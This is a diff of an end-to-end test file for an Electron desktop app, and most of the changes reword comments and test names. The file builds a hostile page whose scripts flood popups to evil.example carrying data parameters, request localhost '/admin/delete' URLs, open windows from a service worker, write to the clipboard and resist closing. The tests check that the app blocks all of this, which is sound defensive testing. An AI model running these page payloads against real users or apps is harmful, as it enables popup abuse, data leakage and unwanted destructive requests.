@@ -1,4 +1,4 @@
-/** A hostile page in the window of a running app: what it tries to reach, to open, to take, and to keep. */
+/** A malicious page in the window of a running app: what it tries to reach, to open, to take, and to keep. */
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are templates of the hostile page
 import { createSocket } from 'node:dgram'
 import { once } from 'node:events'
@@ -19,7 +19,10 @@ import { Workbench } from '../e2e/pages/workbench.ts'
 
 const READY = 120_000
 
-/** Serves the pages of its folder: `/open?TCP,UDP` is open.html; `/away` leads elsewhere; the worker may have all of it. */
+/**
+ * Serves the pages of its folder: `/open?TCP,UDP` is open.html; `/away` redirects; the worker's scope is the whole
+ * site.
+ */
 const SERVER = `import http.server, os, pathlib
 class Handler(http.server.BaseHTTPRequestHandler):
     def do_GET(self):
@@ -42,7 +45,7 @@ class Handler(http.server.BaseHTTPRequestHandler):
 http.server.ThreadingHTTPServer((os.environ["HOST"], int(os.environ["PORT"])), Handler).serve_forever()
 `
 
-/** What a page does as it is loaded, no gesture made. \`tcp\` and \`udp\` are where the listeners are; a promise is waited for. */
+/** What a page does on load, without a gesture. `tcp` and `udp` are the listeners' ports; promises are awaited. */
 const ATTACKS: Record<string, string> = {
   popups: 'for (let i = 0; i < 50; i++) open(`https://evil.example/?data=${i}`)',
   'popups here': 'for (let i = 0; i < 50; i++) open(`http://localhost:${tcp}/admin/delete?all=${i}`)',
@@ -122,7 +125,7 @@ const ATTACKS: Record<string, string> = {
   'another title': 'document.title = "q8s Desktop"; document.title = "x".repeat(1_000_000)'
 }
 
-/** Each way to print, in each kind of frame: none of them prints. */
+/** Each way to print, in each kind of frame: none of them may print. */
 const PRINTING = `
     let printed = 0, asked = 0
     for (const page of [window, tag("iframe").contentWindow]) {
@@ -148,7 +151,7 @@ const pageOf = (attack: string) => `<!doctype html><title>Hostile</title><body><
 const SERVICE_WORKER = `onmessage = ({ source }) => fetch(location.search.slice(1), { mode: "no-cors" }).catch(() => 0)
   .then(() => clients.openWindow(location.search.slice(1))).catch(() => 0).then(() => source.postMessage(1))`
 
-/** Each a page of its own, by what keeps it; one click on it is made before it is closed. */
+/** Pages that try to stay open, by the means they use; each gets one click before it is closed. */
 const CLINGING: Record<string, string> = {
   beforeunload:
     'addEventListener("beforeunload", event => { event.preventDefault(); event.returnValue = "stay" })',
@@ -171,7 +174,7 @@ const BUTTONS = `<!doctype html><title>Buttons</title><button id="flood">Flood</
   on("copy", () => navigator.clipboard.writeText("asked for"))
 </script>`
 
-/** With an `xdg-open` that only notes what it was to open: by it, a link leaves for the browser or another program. */
+/** Adds an `xdg-open` that only records its argument: it would open a link in the browser or another program. */
 const test = base.extend<{ opened: () => Promise<string> }>({
   opened: async ({ home }, use) => {
     const before = process.env.PATH
@@ -186,7 +189,7 @@ const test = base.extend<{ opened: () => Promise<string> }>({
   }
 })
 
-/** Starts the hostile app and shows it in its window. */
+/** Starts the malicious app and shows it in its window. */
 async function showHostile(home: Home, window: Page): Promise<Page> {
   await home.cli('config', 'setup', '--engine', 'process')
   const folder = await home.plainApp(SERVER)
@@ -202,7 +205,7 @@ async function showHostile(home: Home, window: Page): Promise<Page> {
 
 /** Opens one of the pages, and waits until its script is done. */
 async function visit(app: Page, name: string, ports: readonly number[] = []) {
-  // Not asked by a script of Playwright's: those count as gestures.
+  // Waits without a Playwright script: those count as gestures.
   const end = app.waitForEvent('console', { predicate: said => said.text().startsWith('It went') })
   await app.goto(new URL(`/${numberOf(name)}?${ports}`, app.url()).href, { waitUntil: 'commit' })
   expect((await end).text()).toBe('It went well')
@@ -218,7 +221,7 @@ async function showAgain(window: Page): Promise<Page> {
 
 const numberOf = (name: string) => Object.keys(PAGES).indexOf(name)
 
-/** What hears whatever reaches this computer from the page. */
+/** Records everything that reaches this computer from the page. */
 async function listen() {
   const heard: string[] = []
   const udp = createSocket('udp4').on('message', message => heard.push(`udp ${message.length}`))
@@ -245,7 +248,7 @@ type Watched = typeof globalThis & {
   downloads: { name: string; allowed: boolean }[]
 }
 
-/** Questions wait for their answer, and a download has its place, where a user would be asked. */
+/** Holds back the answer to each question, and sets a folder for downloads, where a user would be asked. */
 async function watchMain(window: Page, folder: string) {
   await inMain(
     window,
@@ -281,7 +284,7 @@ const appWindow = (window: Page) =>
       .map(each => ({ title: each.getTitle(), bounds: each.getBounds(), full: each.isFullScreen() }))
   )
 
-test('what a page does without a gesture reaches nobody and takes nothing', async ({
+test('without a user gesture a page reaches no server and takes nothing', async ({
   home,
   opened,
   window
@@ -312,7 +315,7 @@ test('what a page does without a gesture reaches nobody and takes nothing', asyn
   close()
 })
 
-test('with a gesture one thing is asked about, and an address leaves if the user says so', async ({
+test('with a gesture it can ask one question, and an address opens only if the user agrees', async ({
   home,
   opened,
   window
@@ -335,7 +338,7 @@ test('with a gesture one thing is asked about, and an address leaves if the user
     cancelId: 1
   })
   expect(question?.detail?.length).toBeLessThan(500)
-  // No second question beside it, and none with the gesture that answered it.
+  // There is no second question at the same time, and none with the gesture that answered the first.
   await press('Flood')
   await answer(1)
   await app.evaluate(() => open('https://evil.example/again'))
@@ -354,7 +357,7 @@ test('with a gesture one thing is asked about, and an address leaves if the user
   await expect.poll(() => clipboard(window)).toBe('asked for')
 })
 
-test('a page does not print, and tells its user how to', async ({ home, window }) => {
+test('a page cannot print, and its user learns how to', async ({ home, window }) => {
   const app = await showHostile(home, window)
   await watchMain(window, home.folder)
   await visit(app, 'printing')
@@ -362,11 +365,11 @@ test('a page does not print, and tells its user how to', async ({ home, window }
   expect((await questions(window)).map(question => question.message)).toEqual([message, message])
 })
 
-test('a page does not keep its window', async ({ home, window }) => {
+test('a page cannot keep its window open', async ({ home, window }) => {
   let app = await showHostile(home, window)
   for (const name of Object.keys(CLINGING)) {
     await test.step(name, async () => {
-      // Listened to, a dialog stays until it is answered.
+      // With a listener, a dialog stays until it is answered.
       app.on('dialog', () => undefined)
       await visit(app, name)
       const clicked = app.waitForEvent('console', { predicate: said => said.text() === 'clicked' })
@@ -389,13 +392,13 @@ test('a page does not keep its window', async ({ home, window }) => {
   }
 })
 
-test('quitting ends the app, and a start while it ends is served', async ({ home }) => {
+test('quitting ends the app, and a start during the quit is served', async ({ home }) => {
   const first = await startElectron(home)
   const app = await showHostile(home, first.page)
   await visit(app, 'beforeunload')
   await app.mouse.click(100, 100)
   await inMain(first.page, ({ app: own }) => {
-    // As something does that cannot end.
+    // Acts like a task that cannot end.
     own.on('will-quit', event => event.preventDefault())
     setTimeout(() => own.quit())
   })
